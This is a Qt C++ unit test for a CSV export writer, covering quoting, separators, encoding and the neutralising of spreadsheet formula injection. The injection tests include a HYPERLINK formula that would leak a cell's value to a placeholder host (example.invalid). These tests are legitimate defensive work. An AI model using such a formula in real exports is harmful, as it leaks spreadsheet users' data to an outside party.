#include "export/csvwriter.h"

#include <QBuffer>
#include <QRegularExpression>
#include <QTest>
#include <functional>

using ib::CsvOptions;
using ib::CsvSeparator;
using ib::CsvWriter;

Q_DECLARE_METATYPE(ib::CsvSeparator)

namespace {

// What a writer with these options puts on the device for the cells that fill() adds.
QByteArray written(const CsvOptions &options, const std::function<void(CsvWriter &)> &fill)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvWriter writer(&buffer, options);
    fill(writer);
    writer.endRecord();
    if (!writer.flush())
        return QByteArrayLiteral("flush failed");
    return buffer.data();
}

QByteArray oneTextField(const QString &text)
{
    return written(CsvOptions(), [&](CsvWriter &writer) { writer.addText(text); });
}

} // namespace

class TestCsvWriter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void quotesOnlyWhenNeeded_data();
    void quotesOnlyWhenNeeded();
    void separators_data();
    void separators();
    void neutralisesFormulas_data();
    void neutralisesFormulas();
    void numbersStayNumbers();
    void byteOrderMarkOnRequest_data();
    void byteOrderMarkOnRequest();
    void writesBeforeTheEnd();
    void reportsAFailingDevice();
};

void TestCsvWriter::quotesOnlyWhenNeeded_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QByteArray>("field");
    QTest::newRow("plain") << QStringLiteral("Success") << QByteArray("Success\r\n");
    QTest::newRow("empty") << QString() << QByteArray("\r\n");
    QTest::newRow("comma") << QStringLiteral("a,b") << QByteArray("\"a,b\"\r\n");
    QTest::newRow("quote doubled")
        << QStringLiteral("say \"hi\"") << QByteArray("\"say \"\"hi\"\"\"\r\n");
    QTest::newRow("only a quote") << QStringLiteral("\"") << QByteArray("\"\"\"\"\r\n");
    QTest::newRow("LF") << QStringLiteral("a\nb") << QByteArray("\"a\nb\"\r\n");
    QTest::newRow("CR inside") << QStringLiteral("a\rb") << QByteArray("\"a\rb\"\r\n");
    QTest::newRow("field case 9")
        << QStringLiteral("line1\r\nline2 \"quoted\", comma执行失败")
        << QByteArray("\"line1\r\nline2 \"\"quoted\"\", comma\xE6\x89\xA7\xE8\xA1\x8C\xE5\xA4\xB1"
                      "\xE8\xB4\xA5\"\r\n");
    QTest::newRow("semicolon needs no quotes with comma")
        << QStringLiteral("a;b") << QByteArray("a;b\r\n");
    QTest::newRow("emoji next to a quote")
        << QStringLiteral("\"\U0001F600\"") << QByteArray("\"\"\"\xF0\x9F\x98\x80\"\"\"\r\n");
    QTest::newRow("lone surrogate becomes U+FFFD")
        << QString(QChar(0xD800)) << QByteArray("\xEF\xBF\xBD\r\n");
}

void TestCsvWriter::quotesOnlyWhenNeeded()
{
    QFETCH(QString, text);
    QFETCH(QByteArray, field);
    QCOMPARE(oneTextField(text), field);
}

void TestCsvWriter::separators_data()
{
    QTest::addColumn<CsvSeparator>("separator");
    QTest::addColumn<QByteArray>("record");
    QTest::newRow("comma") << CsvSeparator::Comma << QByteArray("\"a,b\",c;d,e\tf,7\r\n");
    QTest::newRow("semicolon") << CsvSeparator::Semicolon << QByteArray("a,b;\"c;d\";e\tf;7\r\n");
    QTest::newRow("tab") << CsvSeparator::Tab << QByteArray("a,b\tc;d\t\"e\tf\"\t7\r\n");
}

void TestCsvWriter::separators()
{
    QFETCH(CsvSeparator, separator);
    QFETCH(QByteArray, record);

    CsvOptions options;
    options.separator = separator;
    const QByteArray bytes = written(options, [](CsvWriter &writer) {
        writer.addText(u"a,b");
        writer.addText(u"c;d");
        writer.addText(u"e\tf");
        writer.addNumber(7);
    });

    QCOMPARE(bytes, record);
}

void TestCsvWriter::neutralisesFormulas_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QByteArray>("field");
    QTest::newRow("equals") << QStringLiteral("=1+1") << QByteArray("'=1+1\r\n");
    QTest::newRow("plus") << QStringLiteral("+1") << QByteArray("'+1\r\n");
    QTest::newRow("minus, field case 8 ErrorInfo")
        << QStringLiteral("-1+1") << QByteArray("'-1+1\r\n");
    QTest::newRow("at") << QStringLiteral("@SUM(A1)") << QByteArray("'@SUM(A1)\r\n");
    QTest::newRow("tab") << QStringLiteral("\t=1") << QByteArray("'\t=1\r\n");
    QTest::newRow("carriage return, quoted")
        << QStringLiteral("\r=1") << QByteArray("\"'\r=1\"\r\n");
    QTest::newRow("field case 8 output, quoted")
        << QStringLiteral("=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"ok\")\nmore")
        << QByteArray(
               "\"'=HYPERLINK(\"\"http://example.invalid/?q=\"\"&A1,\"\"ok\"\")\nmore\"\r\n");
    QTest::newRow("formula char later is fine") << QStringLiteral("a=b") << QByteArray("a=b\r\n");
    QTest::newRow("leading space is left alone") << QStringLiteral(" =1") << QByteArray(" =1\r\n");
    QTest::newRow("line feed first is left alone")
        << QStringLiteral("\n=1") << QByteArray("\"\n=1\"\r\n");
}

void TestCsvWriter::neutralisesFormulas()
{
    QFETCH(QString, text);
    QFETCH(QByteArray, field);
    QCOMPARE(oneTextField(text), field);
}

void TestCsvWriter::numbersStayNumbers()
{
    const QByteArray bytes = written(CsvOptions(), [](CsvWriter &writer) {
        writer.addNumber(-1);
        writer.addNumber(3221225477);
        writer.addEmpty();
        writer.addText(u"-1");
    });

    QCOMPARE(bytes, QByteArray("-1,3221225477,,'-1\r\n"));
}

void TestCsvWriter::byteOrderMarkOnRequest_data()
{
    QTest::addColumn<bool>("byteOrderMark");
    QTest::addColumn<QByteArray>("bytes");
    QTest::newRow("off") << false << QByteArray("\xE6\x89\xA7\xE8\xA1\x8C\r\n");
    QTest::newRow("on") << true << QByteArray("\xEF\xBB\xBF\xE6\x89\xA7\xE8\xA1\x8C\r\n");
}

void TestCsvWriter::byteOrderMarkOnRequest()
{
    QFETCH(bool, byteOrderMark);
    QFETCH(QByteArray, bytes);

    CsvOptions options;
    options.byteOrderMark = byteOrderMark;
    QCOMPARE(written(options, [](CsvWriter &writer) { writer.addText(u"执行"); }), bytes);
}

void TestCsvWriter::writesBeforeTheEnd()
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvWriter writer(&buffer, CsvOptions());
    const QString output(2048, u'x');

    for (int row = 0; row < 1000; ++row) {
        writer.addText(output);
        writer.endRecord();
    }

    // Two megabytes went in without a flush: most of it must already be on the device.
    QVERIFY2(buffer.size() > 1024 * 1024, QByteArray::number(buffer.size()).constData());
    QVERIFY(buffer.size() < 1000 * 2050);
    QVERIFY(writer.flush());
    QCOMPARE(buffer.size(), 1000 * 2050);
}

void TestCsvWriter::reportsAFailingDevice()
{
    QBuffer buffer;
    buffer.open(QIODevice::ReadOnly);
    CsvWriter writer(&buffer, CsvOptions());
    writer.addText(u"x");
    writer.endRecord();

    QTest::ignoreMessage(QtWarningMsg, "QIODevice::write (QBuffer): ReadOnly device");
    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("Writing CSV failed")));
    QVERIFY(!writer.flush());
    QVERIFY(writer.hasFailed());
    QVERIFY(!writer.flush());
}

QTEST_GUILESS_MAIN(TestCsvWriter)
#include "test_csvwriter.moc"
